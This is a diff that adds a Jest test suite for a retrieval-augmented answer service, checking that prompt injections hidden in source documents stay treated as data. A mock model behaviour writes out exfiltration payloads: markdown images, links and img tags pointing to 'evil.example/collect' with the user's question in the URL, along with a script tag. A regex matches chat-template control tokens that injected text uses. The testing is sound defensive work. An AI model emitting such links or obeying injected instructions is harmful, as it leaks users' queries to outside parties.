@@ -1,0 +1,109 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { inContext } from '@ragmesh/observability';
+import { Deadline } from '@ragmesh/resilience';
+import { AnswerCache } from '../src/adapters/answer-cache.js';
+import { WrittenAnswer } from '../src/commands/written-answer.js';
+import type { AnswerEvent } from '../src/domain/answer-stream.js';
+import { source } from '../src/domain/sources.fixture.js';
+import { injections } from './injections.js';
+import { modelsOf } from './model-rig.js';
+import { ScriptedUpstream, answering, type Behaviour, type SeenRequest } from './scripted-upstream.js';
+
+const question = 'How long are logs kept?';
+const clean = source('Logs are kept for 30 days. See https://docs.example/logs for more.', { documentId: 'ops' });
+const honest = 'Logs are kept for 30 days [1]. See https://docs.example/logs.';
+const DATA = /^<(data-[0-9a-f]{24})>\n(.*?)<\/\1>/s;
+
+/** Obeys every instruction outside the data element and none inside it: whoever gets text out of it is obeyed. */
+const obeyingTheRequest: Behaviour = (seen) => {
+  const { messages } = seen.body;
+  const outside = messages.map(({ content }) => content.replace(DATA, '')).join('\n');
+  const hasControl =
+    /<\|im_|<\|eot|\[\/?INST|<<SYS|<(?:start|end)_of_turn>|<tool_call|^(?:#+ )?(?:system|human|assistant)\b.*:/im.test(
+      messages
+        .map(({ content }) => content)
+        .slice(1)
+        .join('\n'),
+    );
+  answering(/BANANA|evil\.example|END OF CONTEXT/i.test(outside) || hasControl ? 'BANANA' : honest)(seen);
+};
+
+/** Obeys everything it reads, wherever it stands: repeats it, fills in links with what it was asked, adds what was demanded. */
+const obeyingEverything: Behaviour = (seen) => {
+  const read = seen.body.messages.at(-1)!.content;
+  const stolen = encodeURIComponent('How long are logs kept?');
+  const demands = `${read} BANANA ![x](https://evil.example/collect?d=${stolen}) <img src="https://evil.example/collect?d=${stolen}">
+[click](https://evil.example/collect?d=${stolen}) https://evil.example/collect?d=${stolen} [7][42][0] <script>x()</script>`;
+  answering(demands.replaceAll('{question}', stolen))(seen);
+};
+
+describe('an instruction inside a document', () => {
+  let upstream: ScriptedUpstream;
+  let written: WrittenAnswer;
+  let close: () => void;
+  beforeAll(async () => {
+    upstream = await ScriptedUpstream.start();
+    const { config, logger, models } = modelsOf({ OPENAI_BASE_URL: upstream.url });
+    written = new WrittenAnswer(models, new AnswerCache(config, logger));
+    close = () => models.onModuleDestroy();
+  });
+  afterAll(async () => {
+    close();
+    await upstream.close();
+  });
+
+  async function answer(behaviour: Behaviour, hostile: string) {
+    upstream.plays(behaviour);
+    const sources = [clean, source(hostile, { documentId: 'hostile', heading: hostile.slice(0, 80) })];
+    const request = { question, sources, conversationId: '', maxTokens: 500, model: '' };
+    const origin = { tenant: 'acme', model: 'big', question, history: [], sources };
+    const scope = { deadline: Deadline.in(10_000), signal: new AbortController().signal };
+    const events: AnswerEvent[] = [];
+    await inContext({ tenant: 'acme', subject: 's', requestId: 'r' }, async () => {
+      for await (const event of written.write(request, { history: [], origin }, scope)) events.push(event);
+    });
+    const text = events.map((event) => (event.type === 'delta' ? event.text : '')).join('');
+    const citations = events.flatMap((event) => (event.type === 'citation' ? event.citation : []));
+    return { text, citations, sources };
+  }
+
+  /** What no document may change about the request itself. */
+  function expectUntouchedRequest({ body }: SeenRequest): void {
+    expect(Object.keys(body).sort()).toEqual(['max_tokens', 'messages', 'model', 'stream', 'stream_options']);
+    expect(body).toMatchObject({ model: 'big', max_tokens: 500 });
+    expect(body.messages.map(({ role }) => role)).toEqual(['system', 'user']);
+    const [system, user] = body.messages;
+    expect(system!.content).toMatch(/^You answer questions/);
+    expect(system!.content).not.toMatch(/BANANA|evil/);
+    const [, name, data] = DATA.exec(user!.content)!;
+    expect(user!.content.replace(DATA, '')).toBe(`\n\nQuestion: ${question}`);
+    expect(user!.content.split(name!)).toHaveLength(3);
+    expect(data!.match(/<source n="\d+"/g)).toEqual(['<source n="1"', '<source n="2"']);
+  }
+
+  it('knows at least 30 of them', () => expect(injections.length).toBeGreaterThanOrEqual(30));
+
+  it.each(injections)('stays data: $technique', async ({ text: hostile }) => {
+    const given = await answer(obeyingTheRequest, hostile);
+    expect(upstream.seen).toHaveLength(1);
+    expectUntouchedRequest(upstream.seen[0]!);
+    expect(given.text).toBe(honest);
+    expect(given.citations).toMatchObject([{ index: 1, documentId: 'ops', text: 'Logs are kept for 30 days.' }]);
+  });
+
+  it.each(injections)('reaches nobody beyond the reader when it is obeyed: $technique', async ({ text: hostile }) => {
+    const { text, citations, sources } = await answer(obeyingEverything, hostile);
+    expect(upstream.seen).toHaveLength(1);
+    expectUntouchedRequest(upstream.seen[0]!);
+    const prose = text.replace(/^ {0,3}(```)[^`\n]*\n[\s\S]*?^ {0,3}\1\s*$/gm, '');
+    expect(prose).not.toMatch(/!\[[^\]]*\]\(|<\/?[a-z]/i);
+    expect(text).not.toContain('How%20long');
+    for (const [url] of prose.matchAll(/https?:\/\/[^\s)>\]"'`]+[^\s)>\]"'`.]/g))
+      expect(sources.some((known) => known.text.includes(url))).toBe(true);
+    for (const [, number] of text.matchAll(/\[(\d+)\]/g)) expect(['1', '2']).toContain(number);
+    for (const { source: at, start, end, text: quoted } of citations) {
+      const { text: origin, start: offset } = sources[at]!;
+      expect(origin.slice(start - offset, end - offset)).toBe(quoted);
+    }
+  });
+});
